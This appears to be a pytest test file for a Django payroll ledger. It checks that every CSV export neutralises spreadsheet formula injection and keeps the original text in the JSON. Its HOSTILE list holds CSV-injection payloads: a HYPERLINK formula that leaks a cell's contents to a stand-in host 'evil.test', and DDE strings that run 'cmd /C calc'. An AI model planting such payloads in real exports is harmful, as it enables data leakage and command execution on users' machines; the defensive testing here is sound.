"""No CSV the product writes can make a spreadsheet run a formula (OWASP, CSV Injection): a cell
beginning with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, separators and
quotes cannot open a cell of their own, a plain number (a negative amount) stays a number, and
the JSON beside each export keeps the exact text."""

import csv
import io
import json
import uuid
from datetime import date

import pytest
from django.utils import timezone

from core import csv_safe
from ledger.registry import engagement_import
from reports import render
from reports.models import Report
from tests.factories import (
    EngagementFactory,
    ProductionFactory,
    StudioFactory,
    UserFactory,
    payroll_key,
)
from tests.helpers import key_client, make_payable
from tests.ledger.test_payroll_api import list_all

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\n@SUM(A1)",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- the one writer -------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(value):
    assert csv_safe.cell(value) == "'" + value
    ((cell,),) = read(csv_safe.line([value]))
    assert cell == "'" + value


@pytest.mark.parametrize(
    "value", ["-12.50", "-7", "0", "12.50", "1500.00", "2025-06-02", "Ann Actor", "", "'=x"]
)
def test_plain_numbers_and_text_stay_as_they_are(value):
    assert csv_safe.cell(value) == value


@pytest.mark.parametrize("value", ["-1e5", "-12.", "-.5", "-1,000.00", "+1.00", "-", "-٣"])
def test_only_an_exact_decimal_number_escapes_the_quote(value):
    assert csv_safe.cell(value) == "'" + value


def test_none_numbers_and_decimals_are_written_as_text():
    from decimal import Decimal

    assert csv_safe.line([None, 7, Decimal("-12.50"), True]) == ",7,-12.50,True\r\n"


@pytest.mark.parametrize(
    "value, written",
    [
        # OWASP's two examples: the quote inside cannot end the cell and start one of its own.
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
        # A `;` (the separator of many locales) is quoted even where `,` is the delimiter.
        ("a;=1+2", '"a;=1+2"'),
        ("a,=1+2", '"a,=1+2"'),
        ("line\n=1+2", '"line\n=1+2"'),
    ],
)
def test_separators_and_quotes_cannot_open_a_cell(value, written):
    assert csv_safe.line([value]) == written + "\r\n"
    assert read(csv_safe.line([value, "x"])) == [[csv_safe.cell(value), "x"]]
    # A reader splitting on `;` sees the value as one quoted cell, never a cell starting "=".
    semicolon_cells = next(csv.reader(io.StringIO(csv_safe.line([value])), delimiter=";"))
    assert not any(cell[:1] in csv_safe.FORMULA_TRIGGERS for cell in semicolon_cells)


def test_the_writer_round_trips_through_a_csv_reader():
    rows = [["=1", "-12.50", 'say "hi"', "a,b", None], ["ok", "", "x\r\ny", ";", "@"]]
    assert read(csv_safe.text(["a", "b", "c", "d", "e"], rows)) == [
        ["a", "b", "c", "d", "e"],
        ["'=1", "-12.50", 'say "hi"', "a,b", ""],
        ["ok", "", "x\r\ny", ";", "'@"],
    ]


def test_no_export_writes_csv_without_the_one_writer():
    # Every CSV the product writes goes through core.csv_safe.
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parents[2]
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for app in ("ledger", "consent", "compensation", "reports", "privacy", "config")
        for path in (root / app).rglob("*.py")
        if pattern.search(path.read_text())
    ]
    assert offenders == []


# --- every export -------------------------------------------------------------------------------


@pytest.fixture
def hostile_ledger(db):
    studio = StudioFactory(name="Meridian", slug="meridian")
    production = ProductionFactory(studio=studio, title=HOSTILE[0])
    engagement = EngagementFactory(
        production=production,
        person__legal_name=HOSTILE[1],
        person__professional_name="",
        person__payroll_ref=HOSTILE[2],
    )
    actor = UserFactory(username="poster")
    payable = make_payable(engagement, "100.00", actor=actor, description=HOSTILE[3])
    _, raw = payroll_key(studio)
    return {"payable": payable, "client": key_client(raw)}


def export_rows(client, url) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200, response.content[:300]
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_the_payables_export_neutralises_cells_and_the_json_keeps_the_text(hostile_ledger):
    client = hostile_ledger["client"]
    (listed,) = list_all(client, "/api/v1/payables/")
    (row,) = export_rows(client, "/api/v1/payables/export/")
    assert listed["production"]["title"] == HOSTILE[0]
    assert listed["description"] == HOSTILE[3]
    assert row["production"] == "'" + HOSTILE[0]
    assert row["person"] == "'" + listed["person"]["name"]
    assert row["payroll_ref"] == "'" + HOSTILE[2]
    assert row["description"] == "'" + HOSTILE[3]
    assert (row["amount"], row["due"]) == ("100.00", "100.00")


@pytest.mark.parametrize("reference", HOSTILE[:4])
def test_the_payments_export_neutralises_the_payroll_reference(hostile_ledger, reference):
    client = hostile_ledger["client"]
    response = client.post(
        "/api/v1/payments/",
        {
            "payable": hostile_ledger["payable"].pk,
            "amount": "40.00",
            "paid_at": timezone.now().isoformat().replace("+00:00", "Z"),
            "payroll_reference": reference,
        },
        format="json",
        headers={"Idempotency-Key": uuid.uuid4().hex},
    )
    assert response.status_code == 201, response.content[:300]
    assert response.json()["payroll_reference"] == reference
    (row,) = export_rows(client, "/api/v1/payments/export/")
    assert row["payroll_reference"] == "'" + reference
    assert row["amount"] == "40.00"


def test_the_report_csv_neutralises_cells_and_keeps_negative_amounts(db):
    row = {
        "rule": "=cmd|' /C calc'!A0",
        "object": "ai_use",
        "id": 7,
        "production": HOSTILE[0],
        "person": HOSTILE[1],
        "date": "2026-08-03",
        "detail": "\t=1+2",
        "count": 1,
        "amount": "-12.50",
        "currency": "USD",
    }
    report = Report(
        content=json.dumps({"sections": [{"key": "violations", "rows": [row]}]}),
        scope_key="production:1",
        period_from=date(2026, 8, 1),
        period_to=date(2026, 8, 31),
    )
    header, line = read(render.csv_text(report))
    assert header == list(render.CSV_COLUMNS)
    written = dict(zip(header, line, strict=True))
    assert written["rule"] == "'" + row["rule"]
    assert written["production"] == "'" + HOSTILE[0]
    assert written["person"] == "'" + HOSTILE[1]
    assert written["detail"] == "'\t=1+2"
    assert written["amount"] == "-12.50"
    assert written["id"] == "7"


def test_the_engagement_import_template_is_written_by_the_same_writer():
    text = engagement_import.template_csv()
    header, example = read(text)
    assert header == list(engagement_import.COLUMNS)
    assert example == [engagement_import.TEMPLATE_EXAMPLE[c] for c in engagement_import.COLUMNS]
    assert text.endswith("\n") and "\r" not in text
